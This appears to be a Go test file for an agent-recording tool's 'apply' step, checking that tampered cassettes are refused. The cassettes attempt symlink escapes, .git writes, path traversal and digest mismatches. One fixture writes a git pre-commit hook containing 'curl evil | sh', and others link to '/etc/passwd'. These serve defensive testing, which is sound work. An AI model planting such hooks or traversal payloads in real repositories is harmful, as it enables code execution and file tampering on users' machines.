package apply_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/agentvcr/agentvcr/cassette"
	"github.com/agentvcr/agentvcr/internal/engine/apply"
	"github.com/agentvcr/agentvcr/internal/testsupport/vcrtest"
)

// fx is one effect of a test cassette, with its content.
type fx struct {
	cassette.Effect
	content string
}

func sum(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}

func create(p, content string) fx {
	return fx{cassette.Effect{Op: cassette.OpCreate, Path: p, Mode: "0644", SHA256: sum(content)}, content}
}
func modify(p, before, content string) fx {
	return fx{cassette.Effect{Op: cassette.OpModify, Path: p, Mode: "0644", SHA256: sum(content), Before: sum(before)}, content}
}
func link(p, target string) fx {
	return fx{Effect: cassette.Effect{Op: cassette.OpSymlink, Path: p, Target: target}}
}
func mkdir(p string) fx {
	return fx{Effect: cassette.Effect{Op: cassette.OpMkdir, Path: p, Mode: "0755"}}
}
func rmdir(p string) fx { return fx{Effect: cassette.Effect{Op: cassette.OpRmdir, Path: p}} }
func del(p, before string) fx {
	return fx{Effect: cassette.Effect{Op: cassette.OpDelete, Path: p, Before: sum(before)}}
}

// cassette writes a cassette of the effects, with some output before them.
func newCassette(t testing.TB, h cassette.Header, effects ...fx) []byte {
	t.Helper()
	var buf bytes.Buffer
	h.Argv = []string{"agent"}
	w := vcrtest.NewCassetteWriter(t, &buf, h)
	w.WriteChunk(cassette.Stdout, 0, []byte("out\n"))
	for _, e := range effects {
		w.WriteEffect(0, e.Effect, strings.NewReader(e.content), int64(len(e.content)))
	}
	w.Close(cassette.Footer{})
	return buf.Bytes()
}

func readPlan(t testing.TB, data []byte) (*apply.Plan, error) {
	t.Helper()
	rd, err := cassette.NewReader(bytes.NewReader(data), "evil.cassette")
	if err != nil {
		return nil, err
	}
	p, err := apply.ReadPlan(rd)
	if err == nil {
		t.Cleanup(func() { p.Close() })
	}
	return p, err
}

// sandbox is a working directory with a sibling outside it, each holding a
// file, and a .git.
type sandbox struct{ parent, root, outside string }

func newSandbox(t testing.TB) sandbox {
	parent := t.TempDir()
	s := sandbox{parent: parent, root: filepath.Join(parent, "work"), outside: filepath.Join(parent, "outside")}
	for _, d := range []string{s.root, s.outside, filepath.Join(s.root, ".git", "hooks")} {
		os.MkdirAll(d, 0o755)
	}
	os.WriteFile(filepath.Join(s.root, "keep.txt"), []byte("mine\n"), 0o644)
	os.WriteFile(filepath.Join(s.outside, "secret.txt"), []byte("outside\n"), 0o644)
	os.WriteFile(filepath.Join(s.root, ".git", "HEAD"), []byte("ref\n"), 0o644)
	return s
}

// state lists everything under the sandbox's parent: path, mode, content or
// link target.
func (s sandbox) state(t testing.TB) string {
	t.Helper()
	var b strings.Builder
	filepath.WalkDir(s.parent, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		rel, _ := filepath.Rel(s.parent, p)
		info, _ := d.Info()
		fmt.Fprintf(&b, "%s %v", rel, info.Mode())
		switch {
		case info.Mode()&fs.ModeSymlink != 0:
			target, _ := os.Readlink(p)
			fmt.Fprintf(&b, " -> %s", target)
		case info.Mode().IsRegular():
			data, _ := os.ReadFile(p)
			fmt.Fprintf(&b, " %q", data)
		}
		b.WriteByte('\n')
		return nil
	})
	return b.String()
}

func (s sandbox) apply(t testing.TB, data []byte, opts apply.ApplyOptions) (*apply.Result, error) {
	t.Helper()
	p, err := readPlan(t, data)
	if err != nil {
		return nil, err
	}
	return apply.Apply(s.root, p, opts)
}

// refused applies a cassette that must be refused whole, and checks that
// nothing changed anywhere, the error saying so.
func refused(t *testing.T, s sandbox, data []byte, want error, msg string) {
	t.Helper()
	before := s.state(t)
	_, err := s.apply(t, data, apply.ApplyOptions{})
	if !errors.Is(err, want) || !strings.Contains(err.Error(), msg) {
		t.Fatalf("err = %v; want %v naming %q", err, want, msg)
	}
	if !errors.Is(err, cassette.ErrFormat) && !strings.Contains(err.Error(), "nothing was written") {
		t.Errorf("the error does not say nothing was written: %v", err)
	}
	if after := s.state(t); after != before {
		t.Errorf("the tree changed:\nbefore:\n%s\nafter:\n%s", before, after)
	}
}

// The attack of the report: links the cassette makes first lead a later
// write out of the working directory.
func TestApplyLinkChainEscape(t *testing.T) {
	s := newSandbox(t)
	data := newCassette(t, cassette.Header{}, mkdir("d"), link("d/up", ".."), link("esc", "d/up/.."), create("esc/outside/pwned.txt", "pwned\n"))
	refused(t, s, data, apply.ErrUnsafe, `"esc" links to "d/up/..", outside the working directory (line 7), "esc/outside/pwned.txt" passes through the symbolic link esc (line 8)`)
	// Without the write, the escaping link alone is refused all the same.
	data = newCassette(t, cassette.Header{}, mkdir("d"), link("d/up", ".."), link("esc", "d/up/.."))
	refused(t, s, data, apply.ErrUnsafe, `"esc" links to "d/up/..", outside`)
	// A link already in the tree counts too.
	os.Symlink("..", filepath.Join(s.root, "up"))
	data = newCassette(t, cassette.Header{}, link("esc2", "up/outside"))
	refused(t, s, data, apply.ErrUnsafe, `"esc2" links to "up/outside", outside`)
}

// A write through a link, made by the cassette or already there, is
// refused, even when the link points inside.
func TestApplyNeverWritesThroughLinks(t *testing.T) {
	s := newSandbox(t)
	os.Mkdir(filepath.Join(s.root, "sub"), 0o755)
	refused(t, s, newCassette(t, cassette.Header{}, link("dl", "sub"), create("dl/x.txt", "x\n")),
		apply.ErrUnsafe, `"dl/x.txt" passes through the symbolic link dl`)
	os.Symlink(s.outside, filepath.Join(s.root, "out"))
	refused(t, s, newCassette(t, cassette.Header{}, create("out/x.txt", "x\n")), apply.ErrUnsafe, "passes through the symbolic link out")
	os.Symlink("keep.txt", filepath.Join(s.root, "lk"))
	refused(t, s, newCassette(t, cassette.Header{}, modify("lk", "mine\n", "evil\n")), apply.ErrConflict, "lk: is a symbolic link")
	// --force replaces the link by a file: the file it pointed to is untouched.
	if _, err := s.apply(t, newCassette(t, cassette.Header{}, modify("lk", "mine\n", "evil\n")), apply.ApplyOptions{Force: true}); err != nil {
		t.Fatal(err)
	}
	if got, _ := os.ReadFile(filepath.Join(s.root, "keep.txt")); string(got) != "mine\n" {
		t.Errorf("written through the link: %q", got)
	}
	if st, _ := os.Lstat(filepath.Join(s.root, "lk")); !st.Mode().IsRegular() {
		t.Errorf("lk is %v", st.Mode())
	}
}

// Nothing under .git, in any case, directly or by a link; nothing the
// recording ignored.
func TestApplyNeverTouchesGit(t *testing.T) {
	s := newSandbox(t)
	// A file named like a killed Apply's leftover is not swept out of .git
	// for a cassette that is refused.
	os.WriteFile(filepath.Join(s.root, ".git", "hooks", apply.TempPrefix+"4242-00-1.new"), []byte("git's\n"), 0o644)
	hook := create(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
	hook.Mode = "0755"
	refused(t, s, newCassette(t, cassette.Header{}, hook), apply.ErrUnsafe, `evil.cassette:5: unsafe path: ".git/hooks/pre-commit" is in .git`)
	refused(t, s, newCassette(t, cassette.Header{}, create(".GIT/config", "x")), apply.ErrUnsafe, "is in .git")
	refused(t, s, newCassette(t, cassette.Header{}, create("sub/.git/config", "x")), apply.ErrUnsafe, "is in .git")
	refused(t, s, newCassette(t, cassette.Header{}, link("hooks", ".git/hooks")), apply.ErrUnsafe, `"hooks" links to ".git/hooks", into .git`)
	refused(t, s, newCassette(t, cassette.Header{}, mkdir("x"), link("x/h", "../.git")), apply.ErrUnsafe, "into .git")
	refused(t, s, newCassette(t, cassette.Header{}, del(".git/HEAD", "ref\n")), apply.ErrUnsafe, "is in .git")
	ign := cassette.Header{Ignore: []string{"*.log", "build"}}
	refused(t, s, newCassette(t, ign, create("a/b.log", "x")), apply.ErrUnsafe, `"a/b.log" matches "*.log", which the recording ignored`)
	refused(t, s, newCassette(t, ign, create("build/out", "x")), apply.ErrUnsafe, `matches "build"`)
}

// Paths that leave the directory by their text.
func TestApplyRefusesEscapingPaths(t *testing.T) {
	s := newSandbox(t)
	for _, e := range []fx{create("../outside/x", "x"), create("/tmp/abs", "x"), create("a/../../x", "x"), create("a//b", "x"),
		link("l", "../outside"), link("l", "/etc/passwd"), link("a/l", "../../outside"), del("../outside/secret.txt", "outside\n")} {
		t.Run(e.Path+e.Target, func(t *testing.T) {
			refused(t, s, newCassette(t, cassette.Header{}, create("fine.txt", "ok\n"), e), apply.ErrUnsafe, "")
		})
	}
}

// Content that does not match its digest, an unknown op, content on an op
// without any, a path given twice: a format error naming the line, and
// nothing applied.
func TestPlanFormatErrors(t *testing.T) {
	s := newSandbox(t)
	bad := create("x.txt", "good\n")
	bad.content = "evil\n"
	cases := []struct {
		name string
		data []byte
		msg  string
	}{
		{"sha mismatch", newCassette(t, cassette.Header{}, create("a.txt", "a\n"), bad), `evil.cassette:7: malformed cassette: file effect "x.txt": its 5 bytes do not match the recorded sha256`},
		{"unknown op", newCassette(t, cassette.Header{}, fx{Effect: cassette.Effect{Op: "chown", Path: "x"}}), `evil.cassette:5: malformed cassette: file effect "x": unknown op "chown"`},
		{"content on delete", newCassette(t, cassette.Header{}, fx{cassette.Effect{Op: cassette.OpDelete, Path: "keep.txt"}, "boom\n"}), `evil.cassette:5: malformed cassette: file effect "keep.txt": delete has no content, but the frame holds 5 bytes`},
		{"no sha", newCassette(t, cassette.Header{}, fx{cassette.Effect{Op: cassette.OpCreate, Path: "x"}, "x\n"}), "create without a sha256"},
		{"bad mode", newCassette(t, cassette.Header{}, fx{cassette.Effect{Op: cassette.OpMkdir, Path: "x", Mode: "4755"}, ""}), `mode "4755" is not permission bits`},
		{"duplicate", newCassette(t, cassette.Header{}, create("x", "1\n"), create("x", "2\n")), `evil.cassette:7: malformed cassette: file effect "x": the path was changed already at line 5`},
		{"link then write", newCassette(t, cassette.Header{}, link("x", "keep.txt"), create("x", "2\n")), "the path was changed already at line 5"},
		{"triple", newCassette(t, cassette.Header{}, del("x", "1"), mkdir("x"), rmdir("x")), "the path was changed already"},
		{"absurd size", []byte("agentvcr cassette v2\n{}\nf 0 99999999999999999 {\"op\":\"create\",\"path\":\"x\",\"size\":99999999999999999}\n"), "evil.cassette:3: malformed cassette: frame of 99999999999999999 bytes"},
		{"negative size", []byte("agentvcr cassette v2\n{}\nf 0 -1 {\"op\":\"create\",\"path\":\"x\",\"size\":-1}\n"), "evil.cassette:3: malformed cassette: bad frame line"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			refused(t, s, tc.data, cassette.ErrFormat, tc.msg)
		})
	}
}

// A cassette cut anywhere is an error or a plan, never a panic; cut inside
// a file's frame, it is an error.
func TestPlanTruncated(t *testing.T) {
	data := newCassette(t, cassette.Header{}, create("a.txt", strings.Repeat("a", 100)+"\n"), mkdir("d"), create("d/b.bin", "\x00\x01"))
	first := bytes.Index(data, []byte("f 0 101"))
	for n := range len(data) {
		p, err := readPlan(t, data[:n])
		if err == nil && n > first && n < first+120 {
			t.Errorf("cut at %d, in the first file frame: a plan of %d effects", n, len(p.Effects()))
		}
		if err != nil {
			var ce *cassette.Error
			if !errors.As(err, &ce) || ce.Line < 1 {
				t.Errorf("cut at %d: %v is not a cassette error with a line", n, err)
			}
		}
	}
}

// A change that cannot be made (a directory that holds more, a read-only
// directory, a path too long) is found before anything is written.
func TestApplyAllOrNothing(t *testing.T) {
	s := newSandbox(t)
	os.Mkdir(filepath.Join(s.root, "full"), 0o755)
	os.WriteFile(filepath.Join(s.root, "full", "other.txt"), []byte("x"), 0o644)
	refused(t, s, newCassette(t, cassette.Header{}, create("a.txt", "a\n"), del("keep.txt", "mine\n"), rmdir("full")),
		apply.ErrBlocked, "full: holds full/other.txt, which the cassette does not remove")

	long := strings.Repeat("d/", 2100) + "f"
	refused(t, s, newCassette(t, cassette.Header{}, create("a.txt", "a\n"), create(long, "x")), apply.ErrBlocked, "longer than PATH_MAX")
	refused(t, s, newCassette(t, cassette.Header{}, create("a.txt", "a\n"), create(strings.Repeat("n", 256), "x")), apply.ErrBlocked, "a name longer than 255 bytes")
	refused(t, s, newCassette(t, cassette.Header{}, create("keep.txt/x", "a\n")), apply.ErrBlocked, "keep.txt is not a directory")

	if os.Geteuid() != 0 {
		ro := filepath.Join(s.root, "ro")
		os.Mkdir(ro, 0o555)
		t.Cleanup(func() { os.Chmod(ro, 0o755) })
		before := s.state(t)
		_, err := s.apply(t, newCassette(t, cassette.Header{}, create("a.txt", "a\n"), mkdir("new"), create("new/b.txt", "b\n"), create("ro/x.txt", "x\n")), apply.ApplyOptions{})
		if err == nil || !strings.Contains(err.Error(), "ro/x.txt: permission denied; nothing was written") {
			t.Errorf("read-only directory: %v", err)
		}
		if after := s.state(t); after != before {
			t.Errorf("the tree changed:\nbefore:\n%s\nafter:\n%s", before, after)
		}
	}
}

// A commit that fails half-way is rolled back: every file, mode, link and
// directory as it was.
func TestApplyRollsBack(t *testing.T) {
	tree := func() sandbox {
		s := newSandbox(t)
		os.WriteFile(filepath.Join(s.root, "edit.txt"), []byte("old\n"), 0o644)
		os.WriteFile(filepath.Join(s.root, "gone.txt"), []byte("bye\n"), 0o644)
		os.WriteFile(filepath.Join(s.root, "tool.sh"), []byte("#!/bin/sh\n"), 0o644)
		os.Mkdir(filepath.Join(s.root, "olddir"), 0o750)
		os.WriteFile(filepath.Join(s.root, "olddir", "x"), []byte("x\n"), 0o644)
		os.Symlink("keep.txt", filepath.Join(s.root, "lnk"))
		return s
	}
	s := tree()
	chmod := fx{Effect: cassette.Effect{Op: cassette.OpChmod, Path: "tool.sh", Mode: "0755", Before: sum("#!/bin/sh\n")}}
	effects := []fx{mkdir("new"), mkdir("new/deeper"), create("new/deeper/f.txt", "f\n"), modify("edit.txt", "old\n", "new\n"),
		del("gone.txt", "bye\n"), del("olddir/x", "x\n"), rmdir("olddir"), link("lnk", "edit.txt"), chmod, create("z.txt", "z\n")}
	data := newCassette(t, cassette.Header{}, effects...)
	var order []string
	apply.SetCommitHook(func(p string) error { order = append(order, p); return nil })
	t.Cleanup(func() { apply.SetCommitHook(nil) })
	dry := tree()
	if _, err := dry.apply(t, data, apply.ApplyOptions{}); err != nil {
		t.Fatal(err)
	}
	if len(order) < 8 {
		t.Fatalf("commit steps %q", order)
	}
	// Fail at every step of the commit in turn.
	for at := range order {
		before := s.state(t)
		n := 0
		apply.SetCommitHook(func(p string) error {
			if n++; n == at+1 {
				return fmt.Errorf("injected failure")
			}
			return nil
		})
		_, err := s.apply(t, data, apply.ApplyOptions{})
		var ae *apply.ApplyError
		if !errors.As(err, &ae) || !ae.RolledBack || !strings.Contains(err.Error(), order[at]+": injected failure; rolled back: the working directory is as it was") {
			t.Errorf("failing at %s: %v", order[at], err)
		}
		if after := s.state(t); after != before {
			t.Errorf("failing at %s, the tree changed:\nbefore:\n%s\nafter:\n%s", order[at], before, after)
		}
	}
	apply.SetCommitHook(nil)
	res, err := s.apply(t, data, apply.ApplyOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if s.state(t) != dry.state(t) {
		t.Errorf("applied after the failures:\n%s\nwant:\n%s", s.state(t), dry.state(t))
	}
	if len(res.Applied) != len(effects) {
		t.Errorf("applied %q", res.Applied)
	}
}

// A signal before the commit: nothing written; during it: it finishes.
func TestApplySignals(t *testing.T) {
	s := newSandbox(t)
	data := newCassette(t, cassette.Header{}, mkdir("d"), create("d/a.txt", "a\n"), create("b.txt", "b\n"))
	sigs := make(chan os.Signal, 1)
	sigs <- syscall.SIGTERM
	before := s.state(t)
	res, err := s.apply(t, data, apply.ApplyOptions{Signals: sigs})
	if !errors.Is(err, apply.ErrInterrupted) || res.Signal != syscall.SIGTERM || s.state(t) != before {
		t.Errorf("signal before the commit: %v, %v; tree:\n%s", err, res.Signal, s.state(t))
	}
	apply.SetCommitHook(func(p string) error {
		if p == "d/a.txt" {
			sigs <- syscall.SIGINT
		}
		return nil
	})
	t.Cleanup(func() { apply.SetCommitHook(nil) })
	res, err = s.apply(t, data, apply.ApplyOptions{Signals: sigs})
	if err != nil || res.Signal != syscall.SIGINT || len(res.Applied) != 3 {
		t.Errorf("signal during the commit: %v, %+v", err, res)
	}
}

// What a killed Apply leaves (staged files, kept originals, some changes
// made) is cleaned up by the next, which completes.
func TestApplyAfterKill(t *testing.T) {
	s := newSandbox(t)
	os.WriteFile(filepath.Join(s.root, "edit.txt"), []byte("old\n"), 0o644)
	os.WriteFile(filepath.Join(s.root, "gone.txt"), []byte("bye\n"), 0o644)
	data := newCassette(t, cassette.Header{}, mkdir("d"), create("d/a.txt", "a\n"), modify("edit.txt", "old\n", "new\n"), del("gone.txt", "bye\n"))
	// Killed after staging and two steps of the commit.
	os.Mkdir(filepath.Join(s.root, "d"), 0o755)
	os.WriteFile(filepath.Join(s.root, "d", apply.TempPrefix+"4242-00-1.new"), []byte("a\n"), 0o600)
	os.WriteFile(filepath.Join(s.root, apply.TempPrefix+"4242-00-2.new"), []byte("new\n"), 0o600)
	os.Link(filepath.Join(s.root, "edit.txt"), filepath.Join(s.root, apply.TempPrefix+"4242-00-2.old"))
	os.Rename(filepath.Join(s.root, "gone.txt"), filepath.Join(s.root, apply.TempPrefix+"4242-00-3.old"))
	res, err := s.apply(t, data, apply.ApplyOptions{})
	if err != nil || res.Stale != 4 {
		t.Fatalf("%v, %+v", err, res)
	}
	got, _ := os.ReadFile(filepath.Join(s.root, "edit.txt"))
	a, _ := os.ReadFile(filepath.Join(s.root, "d", "a.txt"))
	if string(got) != "new\n" || string(a) != "a\n" {
		t.Errorf("edit.txt %q, d/a.txt %q", got, a)
	}
	if left, _ := filepath.Glob(filepath.Join(s.root, "*", apply.TempPrefix+"*")); len(left) > 0 {
		t.Errorf("left: %q", left)
	}
	if left, _ := filepath.Glob(filepath.Join(s.root, apply.TempPrefix+"*")); len(left) > 0 {
		t.Errorf("left: %q", left)
	}
}

// A file that became a directory and a directory that became a file, as
// the recorder writes them (the directory made before the file is deleted).
func TestApplyTypeChanges(t *testing.T) {
	s := newSandbox(t)
	os.WriteFile(filepath.Join(s.root, "was-file"), []byte("f\n"), 0o644)
	os.MkdirAll(filepath.Join(s.root, "was-dir", "sub"), 0o755)
	os.WriteFile(filepath.Join(s.root, "was-dir", "sub", "x"), []byte("x\n"), 0o644)
	data := newCassette(t, cassette.Header{}, mkdir("was-file"), create("was-dir", "now a file\n"), create("was-file/in.txt", "in\n"),
		del("was-file", "f\n"), del("was-dir/sub/x", "x\n"), rmdir("was-dir/sub"), rmdir("was-dir"))
	if _, err := s.apply(t, data, apply.ApplyOptions{}); err != nil {
		t.Fatal(err)
	}
	in, _ := os.ReadFile(filepath.Join(s.root, "was-file", "in.txt"))
	f, _ := os.ReadFile(filepath.Join(s.root, "was-dir"))
	if string(in) != "in\n" || string(f) != "now a file\n" {
		t.Errorf("%q %q", in, f)
	}
	// Applied again: all is as recorded.
	res, err := s.apply(t, data, apply.ApplyOptions{})
	if err != nil || len(res.Applied) != 0 {
		t.Errorf("again: %v, %q", err, res.Applied)
	}
}

// Modes: a new file's recorded mode, a new read-only directory that still
// receives its files.
func TestApplyModes(t *testing.T) {
	s := newSandbox(t)
	tool := create("ro/tool.sh", "#!/bin/sh\n")
	tool.Mode = "0755"
	dir := mkdir("ro")
	dir.Mode = "0555"
	if _, err := s.apply(t, newCassette(t, cassette.Header{}, dir, tool), apply.ApplyOptions{}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Chmod(filepath.Join(s.root, "ro"), 0o755) })
	for p, want := range map[string]fs.FileMode{"ro": 0o555, "ro/tool.sh": 0o755} {
		if st, err := os.Stat(filepath.Join(s.root, p)); err != nil || st.Mode().Perm() != want {
			t.Errorf("%s: %v, %v", p, st.Mode(), err)
		}
	}
	names, _ := os.ReadDir(s.root)
	if i := slices.IndexFunc(names, func(d fs.DirEntry) bool { return strings.HasPrefix(d.Name(), apply.TempPrefix) }); i >= 0 {
		t.Errorf("left %s", names[i].Name())
	}
}

// What is applied is what the plan read, checked, whatever the cassette
// file holds by then.
func TestApplyUsesThePlanOnly(t *testing.T) {
	s := newSandbox(t)
	path := filepath.Join(t.TempDir(), "run.cassette")
	os.WriteFile(path, newCassette(t, cassette.Header{}, create("x.txt", "good\n")), 0o644)
	rd, err := cassette.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer rd.Close()
	p, err := apply.ReadPlan(rd)
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	evil := newCassette(t, cassette.Header{}, create("x.txt", "evil\n"), create("pwned", "x"))
	os.WriteFile(path, evil, 0o644)
	// The file the reader holds, rewritten in place under it.
	if w, err := os.OpenFile(path, os.O_WRONLY, 0); err != nil {
		t.Fatal(err)
	} else if _, err := w.WriteAt(evil, 0); err != nil || w.Close() != nil {
		t.Fatal(err)
	}
	if _, err := apply.Apply(s.root, p, apply.ApplyOptions{}); err != nil {
		t.Fatal(err)
	}
	got, _ := os.ReadFile(filepath.Join(s.root, "x.txt"))
	if _, err := os.Stat(filepath.Join(s.root, "pwned")); string(got) != "good\n" || err == nil {
		t.Errorf("x.txt %q, pwned: %v", got, err)
	}
	// The output read with it is checked in package runner (readRecording)
	// (TestReadOnce), which reads both in one pass.
}

// A cassette cut between its file frames is refused whole: its file
// changes may be cut short.
func TestApplyRefusesIncomplete(t *testing.T) {
	s := newSandbox(t)
	data := newCassette(t, cassette.Header{}, create("a.txt", "a\n"), create("b.txt", "b\n"))
	data = data[:bytes.Index(data, []byte("exit "))]
	refused(t, s, data, cassette.ErrTruncated, "incomplete recording: it ends among its file changes")
}

// A plan's memory is bounded: too many effects, or descriptions too long,
// are a format error naming the line where the bound is passed.
func TestPlanBounds(t *testing.T) {
	data := newCassette(t, cassette.Header{}, create("a", "a\n"), create("b", "b\n"), create("c", "c\n"), mkdir("d"))
	restore := apply.SetPlanLimits(3, 1<<20)
	_, err := readPlan(t, data)
	restore()
	if !errors.Is(err, cassette.ErrFormat) || !strings.Contains(err.Error(), "evil.cassette:11: malformed cassette: more than 3 file effects") {
		t.Errorf("effects: %v", err)
	}
	restore = apply.SetPlanLimits(100, 200)
	_, err = readPlan(t, data)
	restore()
	if !errors.Is(err, cassette.ErrFormat) || !strings.Contains(err.Error(), "evil.cassette:9: malformed cassette: the file effects' descriptions take more than 200 bytes") {
		t.Errorf("bytes: %v", err)
	}
	if _, err := readPlan(t, data); err != nil {
		t.Errorf("within the bounds: %v", err)
	}
}
